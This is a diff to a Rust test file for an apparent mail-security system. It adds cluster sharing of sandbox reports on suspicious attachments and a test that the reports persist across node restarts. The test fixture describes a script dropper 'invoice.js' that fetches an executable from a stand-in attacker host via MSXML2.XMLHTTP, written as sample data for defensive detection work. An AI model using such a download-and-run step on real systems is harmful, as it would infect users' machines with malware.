@@ -16,6 +16,7 @@ use postern_model::control::{Ban, BanChange};
 use postern_model::id::MailId;
 use postern_model::quarantine::QuarantineState;
 use postern_model::reason::Reason;
+use postern_model::sandbox::{Action, Event, Finding, FindingName, Kind as FileKind, Part, Report, SeenFile};
 use postern_model::score::Score;
 use postern_model::settings::smtp::GreylistSettings;
 use postern_model::time::{Span, Timestamp};
@@ -33,6 +34,8 @@ struct Node {
     kinds: Kinds,
     bans: mpsc::Sender<BanChange>,
     peer_bans: mpsc::Receiver<BanChange>,
+    files: mpsc::Sender<SeenFile>,
+    peer_files: mpsc::Receiver<SeenFile>,
     orders: mpsc::Receiver<QuarantineOrder>,
     learned: Arc<Notify>,
 }
@@ -57,6 +60,8 @@ impl Node {
         let ledger = start(beginning).await.unwrap();
         let (bans, own_bans) = mpsc::channel(16);
         let (to_edge, peer_bans) = mpsc::channel(16);
+        let (files, own_files) = mpsc::channel(16);
+        let (to_memory, peer_files) = mpsc::channel(16);
         let (to_keeper, orders) = mpsc::channel(16);
         let learned = Arc::new(Notify::new());
         let kinds = Kinds::start(Parts {
@@ -65,11 +70,13 @@ impl Node {
             database: database.clone(),
             own_bans,
             peer_bans: to_edge,
+            own_files,
+            peer_files: to_memory,
             orders: to_keeper,
             learned: Arc::clone(&learned),
             probe: Box::new(|| Probe { queued: 7, free: 1 << 30, trouble: vec!["no-xdp".into()] }),
         });
-        Self { database, ledger, kinds, bans, peer_bans, orders, learned }
+        Self { database, ledger, kinds, bans, peer_bans, files, peer_files, orders, learned }
     }
 
     /// The way a node ends: nothing of it runs when it is through.
@@ -330,4 +337,35 @@ async fn every_node_says_how_it_is() {
     until("both are known at B", async || b.kinds.health().len() == 2).await;
     let health = &b.kinds.health()[&id(1)];
     assert_eq!((health.queued, health.trouble.as_slice()), (7, &["no-xdp".to_owned()][..]));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_one_node_saw_of_a_file_its_peers_know_also_after_a_start() {
+    let dir = tempfile::tempdir().unwrap();
+    let (a, mut b) = (Node::start(dir.path(), 1).await, Node::start(dir.path(), 2).await);
+    join(&a, &b).await;
+    let part = Part { inside: None, name: "invoice.js".into(), kind: FileKind::Text, size: 9, hash: [3; 32] };
+    let report = Report {
+        parts: vec![part],
+        findings: vec![Finding::new(FindingName::ScriptDropper, 0, "C:\\a.exe")],
+        timeline: vec![Event::new(5, 0, Action::Load, "GET http://evil.example/a.exe", "MSXML2.XMLHTTP")],
+    };
+    let seen = SeenFile { key: [9; 32], at: now(), report, by: None };
+    a.files.send(seen.clone()).await.unwrap();
+    let of_a = SeenFile { by: Some(id(1)), ..seen.clone() };
+    assert_eq!(next(&mut b.peer_files).await, of_a);
+    b.stop().await;
+    let mut b = Node::start(dir.path(), 2).await;
+    assert_eq!(next(&mut b.peer_files).await, of_a, "its memory ended with the last run");
+    a.stop().await;
+    let mut a = Node::start(dir.path(), 1).await;
+    assert_eq!(next(&mut a.peer_files).await, seen, "its own, too");
+    // What is too large for a row is not told; what comes after it is.
+    let many =
+        Report { findings: (0..100).map(|n| Finding::new(FindingName::Script, 0, format!("{n:0200}"))).collect(), ..seen.report.clone() };
+    a.files.send(SeenFile { key: [7; 32], report: many, ..seen.clone() }).await.unwrap();
+    let after = SeenFile { key: [8; 32], ..seen };
+    a.files.send(after.clone()).await.unwrap();
+    join(&a, &b).await;
+    assert_eq!(next(&mut b.peer_files).await, SeenFile { by: Some(id(1)), ..after });
 }
